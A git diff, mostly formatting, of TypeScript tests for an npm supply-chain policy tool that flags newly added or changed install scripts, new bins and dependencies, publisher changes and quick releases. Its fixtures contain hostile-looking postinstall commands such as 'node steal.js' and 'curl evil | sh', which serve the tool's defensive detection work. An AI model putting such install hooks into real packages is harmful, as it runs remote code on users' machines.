@@ -25,8 +25,13 @@ const codes = (v: ReturnType<typeof judge>) => v.findings.map((f) => [f.code, f.
 
 describe('evaluate: install-script change alerts', () => {
   it('denies INSTALL_SCRIPT_ADDED by default when the new version has a postinstall the replaced one lacked, naming it', () => {
-    const v = judge([change([view('package-lock.json', { hasInstallScript: false }), view('packument', { scripts: {} })],
-      [view('verified tarball', { scripts: { postinstall: 'node steal.js' } })], { runs: true, approved: true })]);
+    const v = judge([
+      change(
+        [view('package-lock.json', { hasInstallScript: false }), view('packument', { scripts: {} })],
+        [view('verified tarball', { scripts: { postinstall: 'node steal.js' } })],
+        { runs: true, approved: true },
+      ),
+    ]);
     expect(codes(v)).toEqual([['INSTALL_SCRIPT_ADDED', 'deny', 'defaults.changeAlerts.installScripts']]);
     expect(v.findings[0]!.message).toContain('postinstall "node steal.js"');
     expect(v.findings[0]!.message).toContain('allowScripts approves');
@@ -36,24 +41,41 @@ describe('evaluate: install-script change alerts', () => {
   });
 
   it('names the implicit node-gyp rebuild of a binding.gyp', () => {
-    const v = judge([change([view('package-lock.json', { hasInstallScript: false })], [view('verified tarball', { scripts: { install: 'node-gyp rebuild' } })])]);
+    const v = judge([
+      change([view('package-lock.json', { hasInstallScript: false })], [view('verified tarball', { scripts: { install: 'node-gyp rebuild' } })]),
+    ]);
     expect(v.findings[0]!.code).toBe('INSTALL_SCRIPT_ADDED');
     expect(v.findings[0]!.message).toContain('binding.gyp');
   });
 
   it('only warns when npm will not run the script (allowScripts denies it, or strict-allow-scripts stops the install)', () => {
-    const v = judge([change([view('package-lock.json', { hasInstallScript: false })], [view('verified tarball', { scripts: { postinstall: 'x' } })], { runs: false, approved: false })]);
+    const v = judge([
+      change([view('package-lock.json', { hasInstallScript: false })], [view('verified tarball', { scripts: { postinstall: 'x' } })], {
+        runs: false,
+        approved: false,
+      }),
+    ]);
     expect(codes(v)).toEqual([['INSTALL_SCRIPT_ADDED', 'warn', 'defaults.changeAlerts.installScripts']]);
   });
 
   it('counts the predecessor as script-free when any view says so (a packument claiming the old version had the script relaxes nothing)', () => {
-    const v = judge([change([view('package-lock.json', { hasInstallScript: false }), view('packument', { scripts: { postinstall: 'x' } })], [view('packument', { scripts: { postinstall: 'x' } })])]);
+    const v = judge([
+      change(
+        [view('package-lock.json', { hasInstallScript: false }), view('packument', { scripts: { postinstall: 'x' } })],
+        [view('packument', { scripts: { postinstall: 'x' } })],
+      ),
+    ]);
     expect(v.findings.map((f) => f.code)).toEqual(['INSTALL_SCRIPT_ADDED']);
   });
 
   it('denies INSTALL_SCRIPT_CHANGED when a script text differs, also when only the tarball shows the new text', () => {
     const before = [view('package-lock.json', { hasInstallScript: true }), view('packument', { scripts: { postinstall: 'node build.js' } })];
-    const v = judge([change(before, [view('packument', { scripts: { postinstall: 'node build.js' } }), view('verified tarball', { scripts: { postinstall: 'curl evil | sh' } })])]);
+    const v = judge([
+      change(before, [
+        view('packument', { scripts: { postinstall: 'node build.js' } }),
+        view('verified tarball', { scripts: { postinstall: 'curl evil | sh' } }),
+      ]),
+    ]);
     expect(codes(v)).toEqual([['INSTALL_SCRIPT_CHANGED', 'deny', 'defaults.changeAlerts.installScripts']]);
     expect(v.findings[0]!.message).toContain('postinstall was "node build.js", now "curl evil | sh"');
     expect(judge([change(before, [view('verified tarball', { scripts: { postinstall: 'node build.js' } })])]).findings).toEqual([]);
@@ -67,8 +89,12 @@ describe('evaluate: install-script change alerts', () => {
 
 describe('evaluate: bins, dependencies, publisher and quick-release alerts', () => {
   it('warns BIN_ADDED and DEPENDENCIES_ADDED by default, naming only what is new', () => {
-    const v = judge([change([view('package-lock.json', { bins: ['widget'], dependencies: ['a'] })],
-      [view('verified tarball', { bins: ['widget', 'tsc'], dependencies: ['a', 'b', 'c'] })])]);
+    const v = judge([
+      change(
+        [view('package-lock.json', { bins: ['widget'], dependencies: ['a'] })],
+        [view('verified tarball', { bins: ['widget', 'tsc'], dependencies: ['a', 'b', 'c'] })],
+      ),
+    ]);
     expect(codes(v)).toEqual([
       ['BIN_ADDED', 'warn', 'defaults.changeAlerts.bins'],
       ['DEPENDENCIES_ADDED', 'warn', 'defaults.changeAlerts.dependencies'],
@@ -79,18 +105,31 @@ describe('evaluate: bins, dependencies, publisher and quick-release alerts', () 
   });
 
   it('counts a bin or dependency as old only when every view of the predecessor has it', () => {
-    const v = judge([change([view('package-lock.json', { dependencies: ['a'] }), view('packument', { dependencies: ['a', 'evil'] })],
-      [view('packument', { dependencies: ['a', 'evil'] })])]);
+    const v = judge([
+      change(
+        [view('package-lock.json', { dependencies: ['a'] }), view('packument', { dependencies: ['a', 'evil'] })],
+        [view('packument', { dependencies: ['a', 'evil'] })],
+      ),
+    ]);
     expect(v.findings.map((f) => [f.code, f.message.endsWith(': evil')])).toEqual([['DEPENDENCIES_ADDED', true]]);
   });
 
   it('warns PUBLISHER_CHANGED for another npm user, and for a move away from trusted publishing', () => {
-    const user = judge([change([view('packument', { publisher: { name: 'alice', trusted: false } })], [view('packument', { publisher: { name: 'mallory', trusted: false } })])]);
+    const user = judge([
+      change([view('packument', { publisher: { name: 'alice', trusted: false } })], [view('packument', { publisher: { name: 'mallory', trusted: false } })]),
+    ]);
     expect(codes(user)).toEqual([['PUBLISHER_CHANGED', 'warn', 'defaults.changeAlerts.publisher']]);
     expect(user.findings[0]!.message).toContain('"mallory"');
-    const method = judge([change([view('packument', { publisher: { name: 'GitHub Actions', trusted: true } })], [view('packument', { publisher: { name: 'GitHub Actions', trusted: false } })])]);
+    const method = judge([
+      change(
+        [view('packument', { publisher: { name: 'GitHub Actions', trusted: true } })],
+        [view('packument', { publisher: { name: 'GitHub Actions', trusted: false } })],
+      ),
+    ]);
     expect(method.findings[0]!.message).toContain('trusted publishing');
-    const adopted = judge([change([view('packument', { publisher: { name: 'alice', trusted: false } })], [view('packument', { publisher: { name: 'alice', trusted: true } })])]);
+    const adopted = judge([
+      change([view('packument', { publisher: { name: 'alice', trusted: false } })], [view('packument', { publisher: { name: 'alice', trusted: true } })]),
+    ]);
     expect(adopted.findings).toEqual([]);
   });
 
@@ -101,13 +140,15 @@ describe('evaluate: bins, dependencies, publisher and quick-release alerts', () 
     expect(at(25).findings).toEqual([]);
     expect(at(-5).findings).toEqual([]);
     const wide = policy({ defaults: { changeAlerts: { quickReleaseHours: 48, quickRelease: 'deny' } } });
-    expect(codes(judge([change([view('packument', { publishedAt: T0 })], [view('packument', { publishedAt: hoursAfter(25) })])], wide)))
-      .toEqual([['QUICK_RELEASE', 'deny', 'defaults.changeAlerts.quickRelease']]);
+    expect(codes(judge([change([view('packument', { publishedAt: T0 })], [view('packument', { publishedAt: hoursAfter(25) })])], wide))).toEqual([
+      ['QUICK_RELEASE', 'deny', 'defaults.changeAlerts.quickRelease'],
+    ]);
   });
 });
 
 describe('evaluate: change-alert settings', () => {
-  const scripted = () => change([view('package-lock.json', { hasInstallScript: false, bins: [] })], [view('verified tarball', { scripts: { postinstall: 'x' }, bins: ['w'] })]);
+  const scripted = () =>
+    change([view('package-lock.json', { hasInstallScript: false, bins: [] })], [view('verified tarball', { scripts: { postinstall: 'x' }, bins: ['w'] })]);
 
   it('the built-in policy has the same defaults as a policy file', () => {
     const v = judge([scripted()], builtInPolicy());
@@ -134,7 +175,9 @@ describe('evaluate: change-alert settings', () => {
   });
 
   it('an exception waives a change alert (what vouch approve records)', () => {
-    const p = policy({ exceptions: { widget: [{ versions: '1.1.0', allow: ['INSTALL_SCRIPT_ADDED'], reason: 'reviewed', approvedBy: 'jane', expires: '2027-06-01' }] } });
+    const p = policy({
+      exceptions: { widget: [{ versions: '1.1.0', allow: ['INSTALL_SCRIPT_ADDED'], reason: 'reviewed', approvedBy: 'jane', expires: '2027-06-01' }] },
+    });
     const v = judge([scripted()], p);
     expect(v.decision).toBe('warn');
     expect(v.waived?.map((w) => [w.code, w.waivedBy])).toEqual([['INSTALL_SCRIPT_ADDED', 'exceptions.widget[0]']]);
